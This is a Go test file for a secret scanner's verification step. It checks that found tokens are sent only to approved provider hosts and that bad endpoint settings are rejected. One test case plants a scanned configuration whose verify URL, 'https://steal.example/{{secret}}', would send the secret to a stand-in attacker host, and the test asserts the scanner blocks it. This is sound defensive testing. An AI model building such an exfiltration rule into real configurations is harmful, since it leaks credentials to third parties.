package verifiers

import (
	"fmt"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mudlark-scan/mudlark"
	"github.com/mudlark-scan/mudlark/detectors"
	"github.com/mudlark-scan/mudlark/rules"
)

// refuses is a provider to whom no secret is known.
func refuses(asked *atomic.Int64) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked.Add(1)
		w.WriteHeader(http.StatusUnauthorized)
	})
}

// onLines returns a finding of one secret of tenantRule on each line.
func onLines(t *testing.T, lines ...string) (list []mudlark.Finding) {
	t.Helper()
	for _, line := range lines {
		f := found("acme-token", drawn(t, "acme_<base32lower 32>", 1))[0]
		f.Excerpt.Text = mudlark.NewSensitive(line)
		list = append(list, f)
	}
	return list
}

// TestNoOfOneTenantLeavesOthersOpen: a secret that stands beside several tenants is
// inactive if none of them knows it, and all were asked.
func TestNoOfOneTenantLeavesOthersOpen(t *testing.T) {
	for _, test := range []struct {
		name  string
		lines []string
		opts  Options
		asked int64
		want  mudlark.Status
	}{
		{"both asked", []string{"https://one.", "https://two."}, Options{}, 2, mudlark.Inactive},
		{"one not approved", []string{"https://one.", "https://two."}, Options{OnlyHosts: true, Hosts: []string{"two.acme.example"}}, 1, mudlark.Unknown},
		{"the named one is the usual one", []string{"https://us.", "no tenant"}, Options{}, 2, mudlark.Unknown},
		{"the same the other way round", []string{"no tenant", "https://us."}, Options{}, 2, mudlark.Unknown},
	} {
		var asked atomic.Int64
		p := worldPool(t, setOf(t, tenantRule), test.opts, refuses(&asked))
		list := onLines(t, test.lines...)
		p.Verify(t.Context(), list)
		for i, f := range list {
			if f.Verification.Status != test.want || asked.Load() != test.asked {
				t.Errorf("%s: line %d: asked %d times, %+v", test.name, i, asked.Load(), f.Verification)
			}
		}
	}
}

func TestSecretWithoutAnythingToAskWithIsJudgedByOthers(t *testing.T) {
	var asked atomic.Int64
	p := worldPool(t, setOf(t, pairRule), Options{}, refuses(&asked))
	secret := drawn(t, "psec_<base32lower 32>", 1)
	list := []mudlark.Finding{pair(secret, "pid_11111111", "region=eu-1"), pair(secret, "", "alone")}
	p.Verify(t.Context(), list)
	for i, f := range list {
		if f.Verification.Status != mudlark.Inactive {
			t.Errorf("%d: %+v", i, f.Verification)
		}
	}
}

func TestPlanThatIsHeldAsksNobodyAndAcquitsNothing(t *testing.T) {
	var asked atomic.Int64
	p := worldPool(t, setOf(t, acmeRule+strings.ReplaceAll(acmeRule, "acme", "other")), Options{Cache: openCache(t, t.TempDir())}, refuses(&asked))
	known := found("acme-token", drawn(t, "acme_<base32lower 32>", 1))
	p.Verify(t.Context(), known)
	list := append(found("other-token", drawn(t, "other_<base32lower 32>", 1)), known...)
	plan := p.Plan(list)
	plan.Hold("the user said no")
	if plan.Questions() != 0 || len(plan.Hosts()) != 0 {
		t.Errorf("%d questions to %v are left", plan.Questions(), plan.Hosts())
	}
	p.Ask(t.Context(), plan)
	if asked.Load() != 1 {
		t.Errorf("asked %d times", asked.Load())
	}
	if v := list[0].Verification; v.Status != mudlark.Unknown || v.Reason != "the user said no" {
		t.Errorf("what was held: %+v", v)
	}
	if v := list[1].Verification; v.Status != mudlark.Inactive || !v.Cached {
		t.Errorf("what was known: %+v", v)
	}
}

func TestWhatWasNotAskedNamesNeitherHostNorTime(t *testing.T) {
	for name, opts := range map[string]Options{
		"a host that is not approved": {OnlyHosts: true, Hosts: []string{"elsewhere.example"}},
		"an effect that is not":       {},
	} {
		var asked atomic.Int64
		p := worldPool(t, setOf(t, strings.Replace(acmeRule, "active =", "effect = \"token\"\nactive =", 1)), opts, refuses(&asked))
		list := found("acme-token", drawn(t, "acme_<base32lower 32>", 1))
		p.Verify(t.Context(), list)
		if v := list[0].Verification; asked.Load() != 0 || v.Status != mudlark.Unknown || v.Host != "" || v.At != (time.Time{}) {
			t.Errorf("%s: asked %d times: %+v", name, asked.Load(), v)
		}
	}
}

// scanWith scans a text with rules that a configuration in the scanned place
// changes.
func scanWith(t *testing.T, conf, text string) (*rules.Set, []mudlark.Finding) {
	t.Helper()
	set := setOf(t, "[extend]\nuseDefault = true\n"+conf)
	set.Distrust()
	e, err := detectors.New(set, detectors.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var list []mudlark.Finding
	e.Detect(mudlark.Chunk{Origin: mudlark.Origin{Path: "a.env"}, Data: []byte(text)}, func(f mudlark.Finding) { list = append(list, f) })
	return set, list
}

// TestScannedPlaceSendsNoSecretElsewhere: whoever writes what is scanned may make a
// rule of one provider find the secrets of another, as themselves or as a part.
func TestScannedPlaceSendsNoSecretElsewhere(t *testing.T) {
	token := drawn(t, "<github ghp_>", 7)
	text := "GITHUB_TOKEN=" + token + "\nAMPLITUDE_SECRET_KEY=" + drawn(t, "<hex 32>", 5) + "\namplitude_api_key=" + drawn(t, "<hex 32>", 6) + "\n"
	finds := func(id string) string {
		return "disabledRules = [\"github-pat\"]\n[[rules]]\nid = \"" + id + "\"\ndescription = \"d\"\nregex = '''ghp_[0-9A-Za-z]{36}'''\nkeywords = [\"ghp_\"]\n"
	}
	for _, test := range []struct {
		name, conf string
		hosts      string // whom the findings may be asked about at
		held       string // the rule that is not asked about for it
	}{
		{"nothing changed", "", "[amplitude.com api.github.com]", ""},
		{"a check of its own", finds("mine") + "[rules.verify]\nurl = \"https://steal.example/{{secret}}\"\nactive = { status = [200] }\n", "[amplitude.com]", ""},
		{"a secret of another provider", finds("slack-bot-token"), "[amplitude.com]", "slack-bot-token"},
		{"a part of another provider", finds("amplitude-api-key"), "[]", "amplitude-secret-key"},
		{"a rule that is narrower", "[[rules]]\nid = \"github-pat\"\nkeywords = [\"GITHUB_TOKEN=ghp_\"]\n", "[amplitude.com]", "github-pat"},
	} {
		set, list := scanWith(t, test.conf, text)
		p, err := New(set, Options{Effects: rules.Effects()})
		if err != nil {
			t.Fatal(err)
		}
		plan := p.Plan(list)
		if got := fmt.Sprint(plan.Hosts()); got != test.hosts {
			t.Errorf("%s: asked at %s, want %s", test.name, got, test.hosts)
		}
		for _, q := range plan.questions {
			if q.target.Host != "api.github.com" && strings.Contains(q.target.Subject, token) {
				t.Errorf("%s: %s would get the token", test.name, q.target.Host)
			}
		}
		if test.held == "" {
			continue
		}
		if len(plan.Held) != 1 || plan.Held[0].Rule != test.held || !strings.Contains(plan.Held[0].Reason, "configuration in what is scanned") {
			t.Errorf("%s: held are %+v, want %s", test.name, plan.Held, test.held)
		}
		plan.Hold("it is a test")
		p.Ask(t.Context(), plan)
		for _, f := range list {
			if f.RuleID == test.held && f.Verification.Status != mudlark.Unknown {
				t.Errorf("%s: %s is %q", test.name, f.RuleID, f.Verification.Status)
			}
		}
	}
}

func TestEndpointsAndHostsThatMeanNothingAreErrors(t *testing.T) {
	for _, test := range []struct {
		name string
		opts Options
		want string // of the error; empty: none
	}{
		{"a provider", Options{Endpoints: map[string]string{"github": "https://ghe.corp.example/api/v3"}}, ""},
		{"a rule", Options{Endpoints: map[string]string{"github-pat": "https://ghe.corp.example/api/v3"}}, ""},
		{"a rule of the user", Options{Endpoints: map[string]string{"acme-token": "https://acme.corp.example"}}, ""},
		{"a name with a slip", Options{Endpoints: map[string]string{"githib": "https://ghe.corp.example/api/v3"}}, "endpoint githib"},
		{"a rule without a check", Options{Endpoints: map[string]string{"acme-plain": "https://acme.corp.example"}}, "endpoint acme-plain"},
		{"an endpoint without encryption", Options{Endpoints: map[string]string{"github": "http://ghe.corp.example"}}, "endpoint github"},
		{"hosts", Options{Hosts: []string{"db.example.com", "*.example.com", "db.example.com:5432", "[::1]:5432", "10.0.0.1"}}, ""},
		{"a host that is a URL", Options{Hosts: []string{"https://db.example.com"}}, `host "https://db.example.com"`},
		{"a host with a path", Options{Hosts: []string{"db.example.com/"}}, `host "db.example.com/"`},
		{"a host with a user", Options{Hosts: []string{"u@db.example.com"}}, `host "u@db.example.com"`},
		{"a star within a name", Options{Hosts: []string{"*db.example.com"}}, `host "*db.example.com"`},
		{"a star alone", Options{Hosts: []string{"*"}}, `host "*"`},
		{"a star below nothing", Options{Hosts: []string{"*."}}, `host "*."`},
		{"no host", Options{Hosts: []string{""}}, `host ""`},
	} {
		set := setOf(t, acmeRule+"\n[[rules]]\nid = \"acme-plain\"\ndescription = \"d\"\nregex = '''plain'''\nkeywords = [\"plain\"]\n")
		_, err := New(set, test.opts)
		if test.want == "" && err != nil || test.want != "" && (err == nil || !strings.Contains(err.Error(), test.want)) {
			t.Errorf("%s: %v", test.name, err)
		}
	}
}
